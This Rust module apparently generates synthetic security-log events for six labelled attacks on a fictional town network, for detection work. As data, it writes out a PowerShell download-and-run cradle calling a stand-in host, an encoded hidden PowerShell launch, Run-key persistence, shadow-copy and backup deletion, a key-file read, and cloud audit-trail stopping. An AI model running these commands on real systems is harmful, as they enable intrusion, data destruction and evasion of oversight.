//! The attacks, all on one day, each a scene of its own with a label that every line of it carries.

use std::time::Duration;

use model::Timestamp;

use super::cloud::Call;
use super::map::{ACCOUNTS, find};
use super::network::Ends;
use super::stage::{Stage, at};
use super::windows::{Login, Start};

/// Where the night's visitor comes from; the indicators name it.
const VISITOR: &str = "203.0.113.77";
/// Where the beacon calls home; the indicators name both.
const BEACON_HOST: &str = "sync-metrics.example";
const BEACON_ADDRESS: &str = "203.0.113.23";
/// Where the stage is downloaded from; the indicators name it.
const STAGE_HOST: &str = "cdn-invoices.example";
const STAGE_ADDRESS: &str = "203.0.113.88";

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

/// What a label stands for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Attack {
    /// The name that label files use.
    pub label: &'static str,
    /// The ATT&CK technique that says most about it.
    pub technique: &'static str,
    /// What happens.
    pub description: &'static str,
}

/// Every attack, in the order in which they begin.
pub const ATTACKS: &[Attack] = &[
    Attack {
        label: "dns-beacon",
        technique: "T1071.004",
        description: "ws-tax03 asks for long random names under one domain all day and sends data home in them",
    },
    Attack {
        label: "night-login",
        technique: "T1110.003",
        description: "passwords are tried on many accounts, one works: a remote log-in to the sirens' station at 02:14, \
                      from there to the siren controller, whose command keys are read, and an account is made to return",
    },
    Attack {
        label: "modbus-write",
        technique: "T0855",
        description: "a town hall workstation writes set points of a water controller",
    },
    Attack {
        label: "encoded-powershell",
        technique: "T1059.001",
        description: "a letter's macro starts PowerShell with an encoded command that downloads and runs a script",
    },
    Attack {
        label: "ransomware",
        technique: "T1490",
        description: "shadow copies and the backup catalogue are deleted, files are encrypted, the Security log is cleared",
    },
    Attack {
        label: "cloud-logging-stopped",
        technique: "T1562.008",
        description: "a log-in to the cloud's console without second factor, then its audit trail is stopped",
    },
];

/// A label, and what plays it.
type Scene = (&'static str, fn(&mut Stage, Timestamp));

/// Plays every attack on the day that starts at `day`.
pub(crate) fn play(stage: &mut Stage, day: Timestamp) {
    let scenes: [Scene; 6] = [
        ("dns-beacon", dns_beacon),
        ("night-login", night_login),
        ("modbus-write", modbus_write),
        ("encoded-powershell", encoded_powershell),
        ("ransomware", ransomware),
        ("cloud-logging-stopped", cloud_logging_stopped),
    ];
    for (label, scene) in scenes {
        let number = ATTACKS.iter().position(|attack| attack.label == label);
        stage.belongs(number, |stage| scene(stage, day));
    }
}

fn dns_beacon(stage: &mut Stage, day: Timestamp) {
    let machine = find("ws-tax03");
    let image = "C:\\Users\\c.dvorak\\AppData\\Local\\Metrics\\metrics.exe";
    for tick in 0..24 * 12 {
        // Every five minutes, give or take twenty seconds.
        let when = stage.soon(day.plus(Duration::from_secs(tick * 300)), 20_000);
        let query = format!("{}.{BEACON_HOST}", stage.random.hex(40));
        stage.asks(when, machine, image, (&query, BEACON_ADDRESS));
        stage.dns(when, machine, &query, ("TXT", "b2s="));
        if tick % 36 == 0 {
            let ends = Ends { from: machine.address, to: BEACON_ADDRESS, port: 443 };
            stage.connects(when, machine, image, (BEACON_ADDRESS, 443));
            stage.ssl(when, &ends, BEACON_HOST);
            stage.conn(when, &ends, "ssl");
            stage.alert(when, &ends, (9_000_001, "BRUNNFELD MALWARE regular connections of one size", 1));
        }
    }
}

fn night_login(stage: &mut Stage, day: Timestamp) {
    let (gate, station, controller) = (find("dc01"), find("siren-ops01"), find("siren-ctl01"));
    for (number, account) in ACCOUNTS.iter().enumerate() {
        let when = stage.soon(at(day, 1, 41, 0).plus(Duration::from_secs(number as u64 * 55)), 20_000);
        stage.logs_in(when, gate, account.name, &Login { kind: 3, from: VISITOR, succeeds: false });
    }
    let user = "h.brandt";
    let entry = at(day, 2, 14, 5);
    let ends = Ends { from: VISITOR, to: station.address, port: 3389 };
    stage.conn(entry, &ends, "rdp");
    stage.logs_in(entry, station, user, &Login { kind: 10, from: VISITOR, succeeds: true });
    let putty = "C:\\Program Files\\PuTTY\\putty.exe";
    let command = "\"C:\\Program Files\\PuTTY\\putty.exe\" -ssh h.brandt@siren-ctl01";
    let start = Start { user, image: putty, command, parent: "C:\\Windows\\explorer.exe" };
    stage.starts(at(day, 2, 16, 0), station, &start);
    stage.connects(at(day, 2, 16, 2), station, putty, (controller.address, 22));
    stage.ssh(at(day, 2, 16, 9), controller, user, (station.address, "password", true));
    stage.sudo(at(day, 2, 18, 30), controller, user, "/usr/bin/sirenctl zones --list");
    stage.sudo(at(day, 2, 21, 4), controller, user, "/usr/bin/cat /etc/sirend/keys/command.key");
    stage.makes_account(at(day, 2, 31, 44), gate, user, "helpdesk2");
}

fn modbus_write(stage: &mut Stage, day: Timestamp) {
    let ends = Ends { from: find("ws-hall04").address, to: find("plc-water02").address, port: 502 };
    for (second, function) in
        [(0, "READ_HOLDING_REGISTERS"), (9, "WRITE_SINGLE_REGISTER"), (21, "WRITE_MULTIPLE_REGISTERS")]
    {
        stage.modbus(at(day, 3, 5, second), &ends, function);
    }
    stage.conn(at(day, 3, 5, 30), &ends, "modbus");
    let signature = (9_000_002, "BRUNNFELD SCADA modbus write from outside the water network", 1);
    stage.alert(at(day, 3, 5, 9), &ends, signature);
}

fn encoded_powershell(stage: &mut Stage, day: Timestamp) {
    let (machine, user) = (find("ws-hall02"), "j.ferrari");
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{STAGE_HOST}/r/stage.txt')");
    let command = format!("powershell.exe -NoP -W Hidden -Enc {}", base64_utf16(&script));
    let start = Start { user, image: POWERSHELL, command: &command, parent: WORD };
    stage.starts(at(day, 10, 23, 11), machine, &start);
    stage.runs_script(at(day, 10, 23, 12), machine, &script);
    stage.asks(at(day, 10, 23, 13), machine, POWERSHELL, (STAGE_HOST, STAGE_ADDRESS));
    stage.dns(at(day, 10, 23, 13), machine, STAGE_HOST, ("A", STAGE_ADDRESS));
    let ends = Ends { from: machine.address, to: STAGE_ADDRESS, port: 80 };
    stage.connects(at(day, 10, 23, 14), machine, POWERSHELL, (STAGE_ADDRESS, 80));
    stage.http(at(day, 10, 23, 14), &ends, STAGE_HOST, "/r/stage.txt");
    stage.conn(at(day, 10, 23, 15), &ends, "http");
    stage.creates(at(day, 10, 23, 16), machine, POWERSHELL, "C:\\Users\\j.ferrari\\AppData\\Roaming\\upd.exe");
    let key = "HKU\\S-1-5-21-1010\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd";
    stage.sets(at(day, 10, 23, 18), machine, POWERSHELL, (key, "C:\\Users\\j.ferrari\\AppData\\Roaming\\upd.exe"));
}

fn ransomware(stage: &mut Stage, day: Timestamp) {
    let (machine, user) = (find("ws-welfare03"), "f.moreau");
    for (second, image, command) in [
        (3, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (6, "C:\\Windows\\System32\\wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
        (8, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
    ] {
        stage.starts(at(day, 19, 40, second), machine, &Start { user, image, command, parent: CMD });
    }
    let image = "C:\\ProgramData\\wld.exe";
    for number in 0..60 {
        let when = stage.soon(at(day, 19, 41, number / 2), 400);
        let file = format!("C:\\Users\\{user}\\Documents\\case-{number:03}.docx.brnlock");
        stage.creates(when, machine, image, &file);
    }
    stage.creates(at(day, 19, 41, 45), machine, image, &format!("C:\\Users\\{user}\\Desktop\\READ-THIS.txt"));
    stage.clears_log(at(day, 19, 42, 10), machine, user);
}

fn cloud_logging_stopped(stage: &mut Stage, day: Timestamp) {
    let user = "n.weiss";
    stage.cloud_login(at(day, 22, 8, 0), user, VISITOR, false);
    for (second, service, name, request) in [
        (20, "cloudtrail", "DescribeTrails", "null"),
        (41, "cloudtrail", "StopLogging", "{\"name\":\"brunnfeld-audit\"}"),
        (55, "iam", "CreateAccessKey", "{\"userName\":\"portal-monitor\"}"),
    ] {
        let call = Call { user, from: VISITOR, service, name, read_only: name.starts_with("Describe") };
        stage.cloud(at(day, 22, 9, second), &call, request);
    }
}

/// PowerShell's `-EncodedCommand`: base 64 over UTF-16, little end first.
pub(crate) fn base64_utf16(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut encoded = String::new();
    for chunk in bytes.chunks(3) {
        let (second, third) = (chunk.get(1).copied().unwrap_or(0), chunk.get(2).copied().unwrap_or(0));
        let group = u32::from(chunk[0]) << 16 | u32::from(second) << 8 | u32::from(third);
        for place in 0..4 {
            let letter = ALPHABET[(group >> (18 - 6 * place)) as usize & 63];
            encoded.push(if place <= chunk.len() as u32 { char::from(letter) } else { '=' });
        }
    }
    encoded
}

#[cfg(test)]
mod tests {
    use super::base64_utf16;

    #[test]
    fn encodes_as_powershell_does() {
        assert_eq!(base64_utf16("whoami"), "dwBoAG8AYQBtAGkA");
        assert_eq!(base64_utf16("IEX"), "SQBFAFgA");
        assert_eq!(base64_utf16("a"), "YQA=");
        assert_eq!(base64_utf16("ab"), "YQBiAA==");
    }
}
